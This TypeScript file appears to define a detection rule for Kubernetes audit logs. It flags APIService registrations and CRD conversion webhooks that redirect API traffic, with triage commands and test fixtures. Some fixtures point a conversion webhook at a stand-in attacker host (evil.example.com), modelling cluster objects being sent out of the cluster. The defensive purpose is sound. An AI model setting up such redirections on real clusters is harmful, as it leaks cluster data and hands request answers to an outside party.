import { isUserOrWorkload } from '../../eks/identities.ts';
import { WRITE_VERBS } from '../../kubernetes/verbs.ts';
import type { JsonObject } from '../../primitives/json.ts';
import { extensionOf } from '../../sdk/api-extensions.ts';
import { defineDetection } from '../../sdk/detection.ts';
import { alice, bob, type Caller, call, component, mallory, serviceAccount, truncated } from '../../sdk/examples.ts';
import { isNew, nameOfObject, said } from '../../sdk/phrases.ts';

const WEIGHTS = {
  metrics: { confidence: 30 },
  outside: { impact: 80, confidence: 70 },
  own: { impact: 90, confidence: 70 },
} as const;

export default defineDetection({
  id: 'api-extension-changed',
  title: 'API extension created or redirected (APIService, CRD conversion webhook)',
  description:
    'Somebody had the API server pass requests of an API group on to a Service, or had it send the objects of a custom resource out of the cluster for conversion. The receiver sees the objects and who asked for them, and it chooses the answer. An API group of Kubernetes itself weighs more.',
  tactic: 'persistence',
  techniques: ['T1546'],
  impact: 70,
  confidence: 60,
  denied: { confidence: 50 },
  type: 'TTP',
  stories: ['Kubernetes Persistence', 'Kubernetes Security'],
  falsePositives:
    'The installation of software with an API server of its own. Servers of metrics, such as metrics-server and KEDA, are reported as low.',
  triage:
    'See which Service answers, and which image its pods run: kubectl get apiservices | grep -v Local, kubectl get crd <name> -o jsonpath={.spec.conversion}. Delete an APIService that nobody answers for: kubectl delete apiservice <name>. For a conversion, put the Service of the chart back, and read the objects of that kind for changes.',
  references: [
    'https://kubernetes.io/docs/concepts/extend-kubernetes/api-extension/apiserver-aggregation/',
    'https://kubernetes.io/docs/tasks/extend-kubernetes/custom-resources/custom-resource-definition-versioning/',
  ],
  related: [],
  audit: {
    level: 'any',
    verbs: WRITE_VERBS,
    resources: ['apiservices', 'customresourcedefinitions'],
    actor: isUserOrWorkload,
  },
  find: extensionOf,
  weight: ({ reach }, event) => {
    if (reach !== 'other') return WEIGHTS[reach];
    // A server that renews its certificate writes its whole APIService.
    return event.actor.serviceAccount !== undefined && !isNew(event) ? { confidence: 30 } : {};
  },
  entities: (_found, { object }) => ({ apiExtension: nameOfObject(object) }),
  summary: ({ target }, event) => {
    const where = target === '' ? '' : `, which leads to ${target}`;
    return said(event, isNew(event) ? 'create' : 'change', `${nameOfObject(event.object)}${where}`);
  },
});

const api = { kind: 'APIService', spec: { service: { namespace: 'shop', name: 'x' } } };
const padded = { ...api, metadata: { annotations: { padding: 'x'.repeat(1000) } } };

const register = (by: Caller, line: string, parts = {}) => {
  const [verb, name] = line.split(' ');
  return call(by, `${verb} apiservices.apiregistration.k8s.io ${name}`, { request: api, response: api, ...parts });
};
const define = (by: Caller, clientConfig: JsonObject, parts = {}) =>
  call(by, 'patch customresourcedefinitions.apiextensions.k8s.io jobs.example.com', {
    request: { spec: { conversion: { strategy: 'Webhook', webhook: { clientConfig } } } },
    ...parts,
  });
const OUTSIDE = 'https://evil.example.com/.svc';
const redirect = [{ op: 'replace', path: '/spec/service/name', value: 'x' }];
const copy = [{ op: 'copy', from: '/spec/next', path: '/spec/service' }];

export const examples = () => ({
  fires: {
    'alice created apiservice v1.a.b, which leads to service shop/x': register(alice, 'create v1.a.b'),
    'bob created apiservice v1.metrics.k8s.io, which leads to service shop/x': register(
      bob,
      'patch v1.metrics.k8s.io',
      { code: 201 },
    ),
    'bob changed apiservice v1.apps, which leads to service shop/x': register(bob, 'patch v1.apps', {
      request: redirect,
    }),
    'alice changed apiservice v1.a.b, which leads to service shop/x': register(alice, 'patch v1.a.b', {
      request: copy,
    }),
    'service account keda/keda changed apiservice v1.a.b, which leads to service shop/x': register(
      serviceAccount('keda', 'keda'),
      'update v1.a.b',
    ),
    [`alice changed customresourcedefinition jobs.example.com, which leads to ${OUTSIDE}`]: define(alice, {
      url: OUTSIDE,
    }),
    'bob changed apiservice v1.a.b': truncated(register(bob, 'update v1.a.b', { request: padded })),
    'mallory was denied changing apiservice v1.apps': register(mallory, 'update v1.apps', { code: 403 }),
  },
  silent: {
    'the API server registers its own groups': register(component('apiserver'), 'create v1.apps'),
    'only the certificate changes': register(alice, 'patch v1.a.b', { request: { spec: { caBundle: 'LS0t' } } }),
    'an API that the API server answers itself': register(alice, 'create v1.a.b', { request: {}, response: {} }),
    'conversion in the cluster': [
      define(alice, { url: 'https://x.shop.svc:443/convert' }),
      define(alice, { service: { namespace: 'shop', name: 'x' } }),
    ],
    'a definition whose record was cut': truncated(define(alice, { url: OUTSIDE })),
    'kinds of that name in another group': [
      register(alice, 'create x', { resource: 'apiservices.example.com' }),
      define(alice, { url: OUTSIDE }, { resource: 'customresourcedefinitions.example.com' }),
    ],
  },
});
